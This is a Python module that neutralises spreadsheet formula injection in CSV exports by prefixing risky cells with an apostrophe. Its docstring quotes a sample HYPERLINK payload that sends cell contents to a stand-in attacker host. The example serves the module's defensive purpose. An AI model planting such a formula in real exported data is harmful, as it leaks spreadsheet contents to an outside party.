"""CSV cells a spreadsheet will not run: every CSV iam writes goes through `writer`.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some spreadsheets skip before looking) is read by Excel,
LibreOffice and Google Sheets as a formula: a display name such as
``=HYPERLINK("https://evil.example/?"&A1, "open")`` would leak the sheet or
run a command when a manager opens the file. Such a cell is written with a
leading apostrophe, which spreadsheets show as text (OWASP's advice); `restore`
removes it again when iam reads back a file it wrote.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import IO, Any

#: First characters that make a spreadsheet cell a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet will show it, never evaluate it (non-text values pass unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """The value `neutralise` was given: what iam reads back from a file it wrote."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """`csv.DictWriter` whose rows and header are neutralised cell by cell."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def writer(out: IO[str], columns: Iterable[str], **options: Any) -> SafeDictWriter:
    """The one way iam writes CSV: a `csv.DictWriter` that neutralises formulas.

    Lines end with CRLF (RFC 4180): the csv module then quotes a value holding
    a CR or LF of its own, which a bare ``\n`` terminator leaves unquoted for
    CR, splitting the row in a spreadsheet.
    """
    return SafeDictWriter(out, list(columns), lineterminator="\r\n", **options)
